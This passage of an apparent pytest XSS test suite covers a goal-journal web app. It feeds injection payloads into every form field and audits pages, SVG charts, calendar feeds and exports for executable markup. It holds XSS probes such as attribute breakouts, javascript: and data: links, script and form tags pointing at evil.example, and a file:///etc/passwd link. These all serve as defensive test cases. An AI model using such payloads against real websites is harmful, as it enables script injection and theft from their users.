        if name == "BEGIN":
            open_components.append(value)
            summaries = 0 if value == "VEVENT" else summaries
        elif name == "END":
            if not open_components or open_components.pop() != value:
                problems.append(f"line {number}: END:{value} closes nothing open")
        elif name == "SUMMARY":
            summaries += 1
            if summaries > 1:
                problems.append(f"line {number}: a second SUMMARY in one event")
        if name in CALENDAR_TEXT and re.search(r"(?<!\\)[;,]|\\(?![\\;,nN])", value):
            problems.append(f"line {number}: unescaped TEXT {value!r}")
        if any(marker in value for marker in PAYLOAD_MARKERS):
            problems.append(f"line {number}: journal text or markup {value!r}")
    if open_components:
        problems.append(f"components left open: {open_components}")
    return problems


PUBLISHER = MarkdownIt("commonmark").enable(["table", "strikethrough"])
# Like Python-Markdown or kramdown, and unlike markdown-it, many blog renderers keep any URL.
PUBLISHER.validateLink = lambda url: True
POST_TAGS = {"h1", "h2", "h3", "p", "strong", "em", "ul", "li", "a", "img", "table", "thead",
             "tbody", "tr", "th", "td", "code", "pre", "br", "hr", "blockquote", "ol", "del"}


def audit_post(markdown: str) -> list[str]:
    """The year-in-review post as the app renders Markdown: nothing executable."""
    return audit(f'<div class="prose">{render_markdown(markdown)}</div>')


def audit_published_post(markdown: str) -> list[str]:
    """The post as a blog publishes it (CommonMark, raw HTML on, as static-site generators
    do): only the elements the template writes, links to its own headings and charts."""
    parser = parse(PUBLISHER.render(markdown))
    problems = [f"inline script: {text!r}" for text in parser.script_texts if text.strip()]
    for element in parser.elements:
        if element.tag not in POST_TAGS:
            problems.append(f"<{element.tag}> in the post")
        for name, value in element.attrs:
            if name not in {"href", "src", "alt", "title"}:
                problems.append(f"<{element.tag} {name}={value!r}> in the post")
        if element.tag == "a" and not (element.get("href") or "").startswith("#"):
            problems.append(f"<a href={element.get('href')!r}> in the post")
        if element.tag == "img" and not (element.get("src") or "").startswith("charts/"):
            problems.append(f"<img src={element.get('src')!r}> in the post")
    return problems


def audit_attachment(response) -> list[str]:
    """A download (backup, CSV) is never shown as a page: it is an attachment, not sniffed."""
    problems = []
    if not (response.headers.get("Content-Disposition") or "").startswith("attachment;"):
        problems.append(f"{response.mimetype} is not sent as an attachment")
    if response.headers.get("X-Content-Type-Options") != "nosniff":
        problems.append(f"{response.mimetype} may be sniffed as HTML")
    return problems


def audit_zip(data: bytes) -> list[str]:
    problems = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode("utf-8")
            if name.endswith(".md"):
                problems += [f"{name}: {p}" for p in audit_post(text)]
            elif name.endswith(".svg"):
                problems += [f"{name}: {p}" for p in audit_svg(text)]
            else:
                problems.append(f"{name}: a file of a kind this audit does not know")
    return problems


def audit_response(response, is_app_form) -> list[str]:
    """Audit one answer by what it is; an unknown content type fails, to be taught here."""
    kind = response.mimetype
    if kind == "text/html":
        return audit(response.get_data(as_text=True), is_app_form)
    if kind == "image/svg+xml":
        return audit_svg(response.get_data(as_text=True))
    if kind == "text/markdown":
        return audit_post(response.get_data(as_text=True)) + audit_attachment(response)
    if kind == "application/zip":
        return audit_zip(response.get_data()) + audit_attachment(response)
    if kind == "text/calendar":
        return audit_calendar(response.get_data(as_text=True))
    if kind in {"application/json", "text/csv"}:
        if response.headers.get("Content-Disposition") is None:  # /healthz, not a download
            return [] if "<" not in response.get_data(as_text=True) else ["markup in JSON"]
        return audit_attachment(response)
    if kind == "text/plain":
        return [] if "<" not in response.get_data(as_text=True) else ["markup in text/plain"]
    return [f"{kind}: a content type this audit does not know; teach audit_response()"]


# --- filling every field -------------------------------------------------------------------


def packed(payloads: list[str], limit: int, separator: str = " ") -> list[str]:
    """The payloads joined into as few strings of at most `limit` characters as possible;
    a payload longer than `limit` is left out."""
    chunks, current = [], ""
    for payload in payloads:
        if len(payload) > limit:
            continue
        candidate = f"{current}{separator}{payload}" if current else payload
        if len(candidate) <= limit:
            current = candidate
        else:
            chunks.append(current)
            current = payload
    if current:
        chunks.append(current)
    return chunks


# What the app removes from form input on arrival: the C0 control characters but tab, line
# feed and carriage return (NUL cannot be stored by PostgreSQL, the others break SVG charts).
REMOVED_ON_ARRIVAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def stored(text: str) -> str:
    """What the app keeps of typed text: control characters other than tab, LF and CR are
    removed on arrival."""
    return REMOVED_ON_ARRIVAL.sub("", text)


BLOCKS = "\n\n".join(PAYLOADS)  # each payload a Markdown block of its own
INLINE = " ".join(PAYLOADS)  # all in one paragraph, interacting with each other
SINGLE_LINE = [payload for payload in PAYLOADS if "\n" not in payload and "\r" not in payload]
TITLES = [chunk.strip() for chunk in packed(PAYLOADS, 200)]
# Area names: the families aimed at plain text and attributes (a name is never Markdown).
AREA_FAMILIES = ("script elements", "event handlers", "comment and CDATA", "attribute breakouts",
                 "parser differentials", "encodings")
def kept_area_name(text: str) -> str:
    """What the app keeps of a typed area name: stored(), words one space apart."""
    return area_name(stored(text))


# One name per area: names that differ only in case or spacing are one name.
AREA_NAMES = list({name_key(stored(chunk)): chunk.strip() for chunk in packed(
    [p for family, payloads in PAYLOAD_FAMILIES.items() if family.startswith(AREA_FAMILIES)
     for p in payloads if p in SINGLE_LINE], 60)}.values())
TOPIC_PAYLOADS = [p for p in SINGLE_LINE if "," not in p and len(p.strip()) <= 40]
UNIT_PAYLOADS = [p.strip() for p in SINGLE_LINE if len(p.strip()) <= 40]
KINDS = ("count", "milestone", "habit", "limit")
# Goals are spread over this many areas: each area with goals gets its own (slow) chart.
AREAS_WITH_GOALS = 4
# An address the email validator accepts, with what it allows of attribute breakouts.
SITE_EMAIL = "{{7*7}}'/onfocus=alert`1`//@example.org"

# A quick log's link becomes an href: it must start with http(s)://, and its quotes must not
# break out of the attribute.
QUOTED_LINK = 'https://example.org/"><script>alert(1)</script><a onmouseover="alert(1)'
LINK_PAYLOADS = [
    QUOTED_LINK,
    "https://example.org/'onmouseover='alert(1)'",
    "http://example.org/#\"><img src=x onerror=alert(1)>",
    "https://example.org/?q=\" autofocus onfocus=\"alert(1)",
    "HTTPS://example.org/&quot;onclick=&quot;alert(1)",
]
REFUSED_LINKS = [
    "javascript:alert(1)", " JavaScript:alert(1)", "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/",
    "java\tscript:alert(1)", "&#106;avascript:alert(1)", "https:javascript:alert(1)",
    "javascript:https://example.org/",
]
REFLECTION_SLUGS = ("new-year", "year-end")
MULTILINE_SECTIONS = ("what_happened", "successes", "did_not_work", "learned", "changes")


def goal_form(title: str, kind: str, area_id: int, why: str, topics: list[str],
              unit: str = "posts", year: int = YEAR) -> dict:
    return {
        "title": title, "area_id": str(area_id), "kind": kind, "why": why,
        "topics": ", ".join(topics), "start_date": f"{year}-01-01", "end_date": f"{year}-12-31",
        "count_target": "40", "count_unit": unit, "checkpoints": "",
        "due_date": f"{year}-09-30", "habit_times": "1", "cadence": "week",
        "allowed_skips": "0", "limit_threshold": "5", "limit_unit": unit,
        "direction": "at_most",
    }


def reflection(payloads_text: str, inline: str) -> dict[str, str]:
    form = {name: (payloads_text if index % 2 == 0 else inline)
            for index, name in enumerate(MULTILINE_SECTIONS)}
    form["tldr"] = packed(SINGLE_LINE, 280)[0]
    form["theme"] = packed(SINGLE_LINE, 80)[1]
    return form


FLASH_PAGE = "/account"
FLASH = re.compile(r'<p class="flash [^"]*">(.*?)</p>', re.S)


@dataclass
class Writer:
    """Posts forms as the user does, and audits the next page: the one that shows the
    flashed message, or the form sent back with its errors."""

    client: object
    is_app_form: object
    problems: list[str] = field(default_factory=list)
    flashes: list[str] = field(default_factory=list)

    def post(self, url: str, data: dict, what: str, expect: int = 302):
        response = self.client.post(url, data=data)
        assert response.status_code == expect, f"{what}: answered {response.status_code}"
        if response.status_code == 302:
            # The flash shows on the next page, whichever it is: the account page is the
            # cheapest (the page the redirect names is audited in the walk of every page).
            assert urlsplit(response.headers["Location"]).netloc in ("", "localhost"), what
            response = self.client.get(FLASH_PAGE)
            assert response.status_code == 200, f"{what}: the page after it"
        html = response.get_data(as_text=True)
        self.problems += [f"after {what}: {problem}" for problem in audit(html, self.is_app_form)]
        self.flashes += [" ".join(parse(text).text.split()) for text in FLASH.findall(html)]
        return response


@dataclass
class Site:
    """The app, a logged-in client, and the ids of everything that carries payloads."""

    app: object
    client: object
    writer: Writer
    goal_ids: list[int]
    area_ids: list[int]
    checkin_id: int
    attempt_ids: list[int]
    titles: dict[int, str]
    topics: dict[int, list[str]]
    kinds: dict[int, str]
    units: dict[int, str]
    calendar_token: str
    calendar_page: str
    answers: dict = field(default_factory=dict)

    def get(self, url: str):
        """GET `url` once: the journal does not change after the fixture, and the later
        tests read pages the walk of every page already fetched."""
        if url not in self.answers:
            self.answers[url] = self.client.get(url)
        return self.answers[url]

    @property
    def chart_goal_ids(self) -> list[int]:
        """The goals whose charts are audited: all with XSS_EVERY_CHART=1, else the first
        of each kind (each kind is drawn by different code) and the dropped one."""
        if EVERY_CHART:
            return self.goal_ids
        firsts = [next(g for g in self.goal_ids if self.kinds[g] == kind) for kind in KINDS]
        return sorted({*firsts, self.goal_ids[1]})


def user_id_of(app) -> int:
    with app.app_context():
        return db.session.execute(select(User.id)).scalar_one()


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    app = make_app(tmp_path_factory.mktemp("xss"), JOURNAL_TODAY=TODAY)
    client = app.test_client()
    writer = Writer(client, app_form_checker(app))
    assert AuthActions(client).register(email=SITE_EMAIL).status_code == 302
    for index, name in enumerate(AREA_NAMES):
        writer.post("/areas/", {"name": name, "color": "blue"}, f"area {index} {name!r}")
    for number in (YEAR - 1, YEAR):
        writer.post("/years/new", {"number": str(number)}, f"start {number}")
    # 2025's year-end shows beside 2026's new-year reflection; 2026's on /years/new?year=2027.
    writer.post(f"/years/{YEAR - 1}/reflection/year-end", reflection(BLOCKS, INLINE),
                "2025 year-end reflection")
    for slug in REFLECTION_SLUGS:
        writer.post(f"/years/{YEAR}/reflection/{slug}", reflection(BLOCKS, INLINE),
                    f"{slug} reflection")

    uid = user_id_of(app)
    with app.app_context():
        area_ids = list(db.session.execute(
            select(Area.id).filter_by(user_id=uid).where(
                Area.name.in_([kept_area_name(name) for name in AREA_NAMES])
            ).order_by(Area.id)
        ).scalars())
    assert len(area_ids) == len(AREA_NAMES)

    topic_chunks = [TOPIC_PAYLOADS[i:i + 12] for i in range(0, len(TOPIC_PAYLOADS), 12)]
    for index, title in enumerate(TITLES):
        why = (BLOCKS, INLINE)[index % 2] if index < 4 else PAYLOADS[index % len(PAYLOADS)]
        topics = topic_chunks[index] if index < len(topic_chunks) else []
        form = goal_form(title, KINDS[index % 4], area_ids[index % AREAS_WITH_GOALS], why,
                         topics, UNIT_PAYLOADS[index % len(UNIT_PAYLOADS)])
        writer.post(f"/years/{YEAR}/goals/new", form, f"goal {index} {title!r}")
    with app.app_context():
        goals = list(db.session.execute(select(Goal).order_by(Goal.id)).scalars())
        goal_ids = [goal.id for goal in goals]
        titles = {goal.id: goal.title for goal in goals}
        topics = {goal.id: list(goal.topics) for goal in goals}
        kinds = {goal.id: goal.kind for goal in goals}
        units = {goal.id: goal.unit for goal in goals}
    milestone = next(goal_id for goal_id in goal_ids if kinds[goal_id] == "milestone")
    count = next(goal_id for goal_id in goal_ids if kinds[goal_id] == "count")
    habit = next(goal_id for goal_id in goal_ids if kinds[goal_id] == "habit")

    for note in (BLOCKS, INLINE):
        writer.post(f"/goals/{milestone}/attempts",
                    {"attempted_on": TODAY, "outcome": "pending", "note": note}, "attempt")
    for reason in (BLOCKS, INLINE):
        writer.post(f"/goals/{count}/plan",
                    {"revised_on": TODAY, "reason": reason, "count_target": "30",
                     "checkpoints": ""}, "plan revision")
    logs = [(count, TITLES[-1], TOPIC_PAYLOADS[0]), (habit, TITLES[0], TOPIC_PAYLOADS[-1])]
    logs += [(count, TITLES[i], TOPIC_PAYLOADS[i]) for i in range(1, len(LINK_PAYLOADS))]
    for (goal_id, title, topic), link in zip(logs, LINK_PAYLOADS, strict=False):
        writer.post(f"/goals/{goal_id}/log",
                    {"amount": "1", "title": title, "topic": topic, "link": link}, "quick log")
    checkin = {"on": TODAY, "mood": "3", "went_well": BLOCKS, "went_badly": INLINE,
               "next_change": BLOCKS}
    for goal_id, blocker in zip((count, milestone), packed(PAYLOADS, 500), strict=False):
        checkin[f"g{goal_id}_note"] = BLOCKS
        checkin[f"g{goal_id}_blocker"] = blocker
    writer.post(f"/years/{YEAR}/checkins/new?kind=ad-hoc", checkin, "check-in")
    # Dropped last: a dropped goal takes no more attempts, logs or check-in updates.
    writer.post(f"/goals/{goal_ids[1]}/status",
                {"status": "dropped", "on": TODAY, "reason": INLINE}, "dropping a goal")
    writer.post(f"/goals/{goal_ids[2]}/status",
                {"status": "achieved", "on": TODAY, "reason": BLOCKS}, "achieving a goal")
    # Flash messages that quote a name: an area archived, brought back and deleted, a goal
    # deleted; each named with a payload.
    spare_area, spare_goal = PAYLOADS[0] + " (spare)", TITLES[0] + " (spare)"
    writer.post("/areas/", {"name": spare_area, "color": "blue"}, "spare area")
    with app.app_context():
        spare_id = db.session.execute(select(Area.id).filter_by(name=spare_area)).scalar_one()
    for action in ("archive", "restore", "delete"):
        writer.post(f"/areas/{spare_id}/{action}", {}, f"{action} an area")
    writer.post(f"/years/{YEAR}/goals/new",
                goal_form(spare_goal, "count", area_ids[0], "", []), "spare goal")
    with app.app_context():
        spare_goal_id = db.session.execute(
            select(Goal.id).filter_by(title=spare_goal)).scalar_one()
        checkin_id = db.session.execute(select(CheckIn.id)).scalar_one()
        attempt_ids = list(db.session.execute(select(Attempt.id).order_by(Attempt.id)).scalars())
    writer.post(f"/goals/{spare_goal_id}/delete", {}, "deleting a goal")
    # The calendar feed: its page shows the address once, in an input's value.
    calendar_page = client.post("/account/calendar", data={"monthly": "y"})
    assert calendar_page.status_code == 200
    calendar_html = calendar_page.get_data(as_text=True)
    token = re.search(r"/calendar/([A-Za-z0-9_-]+)\.ics", calendar_html).group(1)
    yield Site(app, client, writer, goal_ids, area_ids, checkin_id, attempt_ids, titles,
               topics, kinds, units, token, calendar_html)
    with app.app_context():
        db.session.remove()
        db.engine.dispose()


def page(site: Site, url: str) -> str:
    """GET `url` as the user who wrote the payloads; insist on 200."""
    response = site.get(url)
    assert response.status_code == 200, url
    return response.get_data(as_text=True)


# --- the payloads themselves ---------------------------------------------------------------


def near_duplicate_key(payload: str) -> str:
    """A payload with what does not change the attack left out: which function it calls."""
    return re.sub(r"(alert|prompt|confirm)(\(\d+\)|`\d+`)", "X", payload)


def test_the_payloads_are_many_distinct_and_grouped():
    assert len(PAYLOADS) >= MIN_PAYLOADS, len(PAYLOADS)
    assert len(set(PAYLOADS)) == len(PAYLOADS)
    keys = [near_duplicate_key(payload) for payload in PAYLOADS]
    repeated = sorted({p for p, k in zip(PAYLOADS, keys, strict=True) if keys.count(k) > 1})
    assert not repeated, f"near-duplicates: {repeated}"
    assert all(len(family) >= 10 for family in PAYLOAD_FAMILIES.values())
    assert all(any(stored(p).strip() in stored(t) for t in TITLES) for p in PAYLOADS)
    assert len(AREA_NAMES) >= 40
    assert len(TOPIC_PAYLOADS) >= 60
    assert len(BLOCKS) < 20_000  # the longest Markdown fields take 20,000 characters


# --- the auditors catch what they claim to -------------------------------------------------


def test_the_audit_catches_what_it_should():
    """The HTML auditor itself: each of these must be reported."""
    bad = [
        "<script>alert(1)</script>", '<script src="https://evil.example/x.js"></script>',
        "<img src=x onerror=alert(1)>", '<a href=" JaVa\tScRiPt:alert(1)">x</a>',
        '<a href="&#106;avascript:alert(1)">x</a>', '<p style="color:red">x</p>',
        "<iframe></iframe>", '<meta http-equiv="refresh" content="0">', '<base href="/">',
        '<form action="https://evil.example/"></form>', '<div class="prose"><b>x</b></div>',
        '<div class="prose"><a href="https://example.org">no rel</a></div>',
        "<svg></svg>", '<a href="data:text/html,x">x</a>', '<a href="vbscript:x">x</a>',
        '<input name="next" form="logout">', '<iframe srcdoc="x"></iframe>',
        '<div class="prose"><a href="file:///etc/passwd" rel="noopener noreferrer nofollow">'
        "f</a></div>",
    ]
    for html in bad:
        assert audit(html), html
    good = ('<script src="/static/js/autosave.js" defer></script>'
            '<div class="prose"><p><a href="https://example.org" '
            f'rel="{PROSE_REL}">x</a></p></div>')
    assert audit(good) == []


def test_the_svg_audit_catches_what_it_should():
    head = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    bad = [
        "<script>alert(1)</script>", '<g onload="alert(1)"/>',
        "<foreignObject><div>x</div></foreignObject>", '<a xlink:href="javascript:alert(1)"/>',
        '<use xlink:href="https://evil.example/x.svg#a"/>', '<rect style="fill:url(http://e/)"/>',
        "<style>*{background:url(https://evil.example/)}</style>",
        "<text>&lt;-- an escape that broke: <b></text>", '<set attributeName="href" to="x"/>',
        "<title>a form feed \x0c, which XML forbids</title>",
    ]
    for body in bad:
        assert audit_svg(f"{head}{body}</svg>"), body
    good = (f'{head}<style>*{{stroke-linejoin: round}}</style><title>a &lt;b&gt;</title>'
            '<use xlink:href="#m" style="fill: #fff; clip-path: url(#p1)"/></svg>')
    assert audit_svg(good) == []


def test_the_calendar_audit_catches_what_it_should():
    def ics(*lines: str) -> str:
        return "\r\n".join(["BEGIN:VCALENDAR", *lines, "END:VCALENDAR"]) + "\r\n"

    event = ["BEGIN:VEVENT", "UID:a@b", "SUMMARY:Check in", "END:VEVENT"]
    assert audit_calendar(ics(*event)) == []
    bad = [
        ics("BEGIN:VEVENT", "SUMMARY:x", "BEGIN:VEVENT", "SUMMARY:<script>", "END:VEVENT"),
        ics("BEGIN:VEVENT", "SUMMARY:x", "SUMMARY:injected", "END:VEVENT"),
        ics("BEGIN:VEVENT", "SUMMARY:a, b; c", "END:VEVENT"),
        ics("BEGIN:VEVENT", "SUMMARY:" + "x" * 80, "END:VEVENT"),
        ics("BEGIN:VEVENT", "SUMMARY:a\nb", "END:VEVENT"),
        ics("BEGIN:VEVENT", "not a property", "END:VEVENT"),
        ics(*event[:-1]),
        ics(*event).replace("\r\n", "\n"),
    ]
    for text in bad:
        assert audit_calendar(text), text


def test_the_post_audits_catch_what_they_should():
    assert audit_post("# Title\n\n**<script>alert(1)</script>**") == []  # shown as text
    assert audit_published_post("**<script>alert(1)</script>**")
    assert audit_published_post("![x](javascript:alert(1))")
    assert audit_published_post("[x](https://evil.example/)")
    assert audit_published_post("<img src=x onerror=alert(1)>")
    fine = "# T\n\n- [a](#a)\n\n![c](charts/goal-1.svg)\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n"
    assert audit_published_post(fine) == []


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_payload_renders_to_safe_markdown(payload):
    html = str(render_markdown(payload))
    assert audit(f'<div class="prose">{html}</div>') == []


# --- every column that holds text is fed ---------------------------------------------------

# Columns typed as free text in a form: each must hold payloads once the site is built.
FED_COLUMNS = {
    "user_account.email", "area.name", "reflection.tldr", "reflection.what_happened",
    "reflection.successes", "reflection.did_not_work", "reflection.learned",
    "reflection.changes", "reflection.theme", "goal.title", "goal.why", "goal.topics",
    "goal.unit", "goal.status_reason", "plan_revision.reason", "attempt.note",
    "checkin.went_well", "checkin.went_badly", "checkin.next_change",
    "progress_update.blocker", "progress_update.note", "progress_update.title",
    "progress_update.link", "progress_update.topic",
}


def _is_date_value(point) -> bool:
    return (isinstance(point, list) and len(point) == 2 and isinstance(point[0], str)
            and re.fullmatch(r"\d{4}-\d{2}-\d{2}", point[0]) is not None
            and isinstance(point[1], int | float))


# Columns a form fills from a fixed set: payloads typed into them must be refused.
CHOICE_COLUMNS = {
    "area.color": lambda value: value in PALETTE,
    "reflection.kind": lambda value: value in ("new_year", "year_end"),
    "goal.kind": lambda value: value in GOAL_KINDS,
    "goal.cadence": lambda value: value in (*CADENCES, None),
    "goal.direction": lambda value: value in (*DIRECTIONS, None),
    "goal.status": lambda value: value in ("active", "achieved", "dropped"),
    "attempt.outcome": lambda value: value in ("succeeded", "failed", "pending"),
    "checkin.kind": lambda value: value in CHECKIN_KINDS,
    "plan_revision.checkpoints": lambda value: all(_is_date_value(p) for p in value),
}
# Columns no user types, and no page shows.
NOT_TYPED = {
    "user_account.password_hash": "an argon2 hash of the password",
    "user_account.calendar_token_hash": "a SHA-256 of a token the app makes",
    "login_session.token_hash": "a SHA-256 of a token the app makes",
    "login_failure.account_key": "a SHA-256 of the email typed at login",
    "login_failure.address": "the client's address, never shown",
    "user_account.data_version": "a random token the app makes on every write to the "
                                 "journal; charts' ETags and the page cache are keyed on it",
}


def text_columns() -> list[tuple[str, object]]:
    """Every String, Text and JSON column of every table, as ("table.column", column)."""
    return [(f"{table.name}.{column.name}", column)
            for table in db.metadata.sorted_tables for column in table.columns
            if isinstance(column.type, String | Text | JSON)]


def is_payload(value) -> bool:
    text = value if isinstance(value, str) else json.dumps(value)
    return any(marker in text for marker in PAYLOAD_MARKERS)


def test_every_text_column_is_fed_payloads(site):
    columns = text_columns()
    unknown = sorted(name for name, _c in columns
                     if name not in FED_COLUMNS | set(CHOICE_COLUMNS) | set(NOT_TYPED))
    assert not unknown, (
        f"columns this sweep does not feed: {unknown}. Type payloads into them in the site "
        "fixture (and FIELD_TARGETS) and add them to FED_COLUMNS, or list them as a choice "
        "or as never typed."
    )
    names = {name for name, _c in columns}
    assert FED_COLUMNS | set(CHOICE_COLUMNS) | set(NOT_TYPED) <= names  # no stale entries
    with site.app.app_context():
        unfed = [name for name, column in columns if name in FED_COLUMNS
                 and not any(is_payload(v) for v in db.session.execute(select(column)).scalars()
                             if v is not None)]
    assert not unfed, f"columns holding no payload: {unfed}"


# --- every page, chart and export ----------------------------------------------------------

# Query strings a page takes besides its plain URL; each is requested too.
# Chart variants are drawn by the same code with another style: all of them are requested
# with XSS_EVERY_CHART=1, one by default (charts are the slow part of this module).
CHART_VARIANTS = ["", "?theme=dark&size=narrow"] if EVERY_CHART else [""]
QUERY_VARIANTS = {
    "years.new": ["", f"?year={YEAR + 1}"],
    "checkins.new": ["?kind=mid-year", "?kind=ad-hoc"],
    "goals.chart": CHART_VARIANTS,
    "years.chart": ["?theme=dark&size=narrow"],
    "summary.chart": CHART_VARIANTS,
    "summary.area_chart": CHART_VARIANTS,
}
# Pages that send the logged-in owner elsewhere, and where.
MAY_REDIRECT = {"auth.login": "/", "auth.register": "/", "areas.delete": "/areas/"}
WALKED_TYPES = {"text/html", "image/svg+xml", "text/markdown", "application/zip",
                "text/calendar", "application/json", "text/csv"}


def walk_values(site: Site, endpoint: str) -> dict[str, list]:
    """The values each URL argument takes; charts and the zip (slow to draw) are sampled."""
    values = {
        "area_id": site.area_ids, "number": [YEAR - 1, YEAR], "goal_id": site.goal_ids,
        "checkin_id": [site.checkin_id], "kind": list(REFLECTION_SLUGS),
        "attempt_id": site.attempt_ids, "token": [site.calendar_token],
    }
    if endpoint == "goals.chart":
        values["goal_id"] = site.chart_goal_ids
    if endpoint == "summary.area_chart":
        values["area_id"] = site.area_ids[:AREAS_WITH_GOALS]
    if endpoint == "exports.review_with_charts" and not EVERY_CHART:
        values["number"] = [YEAR - 1]  # the zip of a year draws every goal's chart
    return values


def walked_urls(site: Site) -> list[tuple[str, str]]:
    """(endpoint, URL) for every GET rule of the app, filled with the site's ids; a rule
    with an argument this module cannot fill fails the test."""
    urls, unknown = [], []
    for rule in sorted(site.app.url_map.iter_rules(), key=lambda rule: rule.rule):
        if "GET" not in rule.methods or rule.endpoint == "static":
            continue
        values = walk_values(site, rule.endpoint)
        if set(rule.arguments) - set(values):
            unknown.append(f"{rule.endpoint} ({rule.rule})")
            continue
        names = sorted(rule.arguments)
        for combination in itertools.product(*(values[name] for name in names)):
            url = rule.build(dict(zip(names, combination, strict=True)))[1]
            urls += [(rule.endpoint, url + query)
                     for query in QUERY_VARIANTS.get(rule.endpoint, [""])]
    assert not unknown, f"GET rules with URL arguments this sweep cannot fill: {unknown}"
    return urls


def test_every_page_chart_and_export_is_safe(site):
    is_app_form = app_form_checker(site.app)
    problems, seen_types, audited = [], set(), 0
    for endpoint, url in walked_urls(site):
        response = site.get(url)
        if response.status_code == 302 and endpoint in MAY_REDIRECT:
            assert urlsplit(response.headers["Location"]).path == MAY_REDIRECT[endpoint], url
            continue
        assert response.status_code == 200, f"{url} ({endpoint}) answered {response.status_code}"
        seen_types.add(response.mimetype)
        audited += 1
        problems += [f"{url}: {problem}" for problem in audit_response(response, is_app_form)]
    assert not problems, "\n".join(problems)
    assert seen_types >= WALKED_TYPES, seen_types
    assert audited >= 4 * len(site.goal_ids) + len(site.area_ids)


# The messages the site's writes flash, and how many times each: the goals and areas
# added (one spare of each), the spare area archived, restored and deleted, the spare goal
# deleted, and the quick logs (one per link payload).
NAMED_WRITE_FLASHES = {
    f"Goal added to {YEAR}.": len(TITLES) + 1,
    "Area added.": len(AREA_NAMES) + 1,
    "Area archived. Its goals stay in their years.": 1,
    "Area restored.": 1,
    "Area deleted.": 1,
    "Goal deleted.": 1,
    "Progress logged.": len(LINK_PAYLOADS),
}


def test_flash_messages_quote_no_journal_text(site):
    """Every write's next page (with its flash message) was audited while the site was
    built. Flask keeps flashes in its session cookie, signed but not encrypted, so the
    messages about an area or a goal name none: each is the app's own sentence, and no
    message holds any of the payloads typed."""
    assert not site.writer.problems, "\n".join(site.writer.problems)
    shown = site.writer.flashes
    counts = {message: shown.count(message) for message in NAMED_WRITE_FLASHES}
    assert counts == NAMED_WRITE_FLASHES, shown
    typed = [" ".join(stored(text).split()) for text in (*TITLES, *AREA_NAMES)]
    quoting = [message for message in shown
               if "alert" in message or any(text in message for text in typed)]
    assert not quoting, quoting


def test_user_content_is_rendered_in_prose_blocks(site):
    """The audit of user content is not vacuous: the Markdown fields are on the pages."""
    for url in (f"/years/{YEAR}", f"/goals/{site.goal_ids[0]}", f"/checkins/{site.checkin_id}",
                f"/years/new?year={YEAR + 1}", f"/years/{YEAR}/reflection/new-year"):
        parser = parse(page(site, url))
        assert sum(element.in_prose for element in parser.elements) > 20, url


STORED_TITLES = [stored(title) for title in TITLES]


def test_goal_titles_are_shown_as_text(site):
    assert len(site.titles) == len(TITLES)
    year_text = parse(page(site, f"/years/{YEAR}")).text
    dashboard_text = parse(page(site, "/")).text
    for goal_id, title in site.titles.items():
        assert title in STORED_TITLES
        assert title in parse(page(site, f"/goals/{goal_id}")).text, title
        assert title in year_text, title
        assert title in dashboard_text, title


def test_area_names_and_topics_are_shown_as_text(site):
    areas_text = parse(page(site, "/areas/")).text
    for name in AREA_NAMES:
        assert kept_area_name(name) in areas_text, name
    shown_topics = 0
    for goal_id, topics in site.topics.items():
        goal_text = parse(page(site, f"/goals/{goal_id}")).text
        for topic in topics:
            assert topic in goal_text, topic
            shown_topics += 1
    assert shown_topics >= len(TOPIC_PAYLOADS) // 2


def test_one_line_reflection_sections_are_shown_as_text(site):
    year_text = parse(page(site, f"/years/{YEAR}")).text
    form = reflection(BLOCKS, INLINE)
    assert form["tldr"].strip() in year_text
    assert form["theme"].strip() in year_text


def elements(html: str, tag: str, **attributes) -> list[Element]:
    return [element for element in parse(html).elements if element.tag == tag
            and all(element.get(name) == value for name, value in attributes.items())]


def test_attribute_contexts_keep_payloads_whole(site):
    """Each attribute the templates fill with user text holds the whole text, as typed:
    nothing closed the attribute early."""
    dashboard = page(site, "/")
    assert elements(dashboard, "span", **{"class": "who"})[0].get("title") == (
        f"Logged in as {SITE_EMAIL}")
    year = page(site, f"/years/{YEAR}")
    labels = [element.get("aria-label") for element in elements(year, "button")
              if (element.get("aria-label") or "").startswith("+1 ")]
    steppable = [g for g in site.goal_ids if site.kinds[g] in ("count", "habit")]
    assert len(labels) >= len(steppable) - 2  # two of them are dropped or achieved
    assert all(label.split(": ", 1)[1] in STORED_TITLES for label in labels), labels
    for goal_id in site.chart_goal_ids:
        title, unit = site.titles[goal_id], site.units[goal_id]
        shown = page(site, f"/goals/{goal_id}")
        assert elements(shown, "img")[0].get("alt").startswith(f"{title}: "), goal_id
        edit = page(site, f"/goals/{goal_id}/edit")
        assert elements(edit, "input", name="title")[0].get("value") == title
        if site.kinds[goal_id] == "count":
            assert elements(edit, "input", name="count_unit")[0].get("value") == unit
        if site.kinds[goal_id] == "limit" and goal_id not in site.goal_ids[1:3]:
            measure = elements(year, "input", id=f"log-{goal_id}-value")
            assert measure[0].get("placeholder") == unit
    areas = page(site, "/areas/")
    moves = [element.get("aria-label") for element in elements(areas, "button")
             if (element.get("aria-label") or "").startswith("Move ")]
    assert {label.removeprefix("Move ").rsplit(" ", 1)[0] for label in moves} >= {
        kept_area_name(name) for name in AREA_NAMES[1:-1]}


def test_quick_log_links_are_kept_inside_their_attribute(site):
    hrefs = set()
    for goal_id in site.goal_ids[:3]:  # the logs went to the first count and habit goals
        hrefs |= {element.get("href") for element in elements(page(site, f"/goals/{goal_id}"),
                                                              "a")}
    assert set(LINK_PAYLOADS) <= hrefs


@pytest.mark.parametrize("link", REFUSED_LINKS)
def test_quick_log_links_that_are_not_web_addresses_are_refused(site, link):
    goal_id = site.goal_ids[0]
    response = site.client.post(f"/goals/{goal_id}/log", data={"amount": "1", "link": link})
    assert response.status_code == 422
    assert audit(response.get_data(as_text=True), app_form_checker(site.app)) == []
    shown = site.client.get(f"/goals/{goal_id}").get_data(as_text=True)
    assert link.strip() not in [element.get("href") for element in parse(shown).elements]


def test_status_reasons_are_shown_as_text(site):
    dropped = parse(page(site, f"/goals/{site.goal_ids[1]}")).text
    assert stored(INLINE).strip() in dropped


def chart_text(site: Site, url: str) -> str:
    response = site.get(url)
    assert response.status_code == 200 and response.mimetype == "image/svg+xml", url
    return " ".join(parse(response.get_data(as_text=True)).text.split())


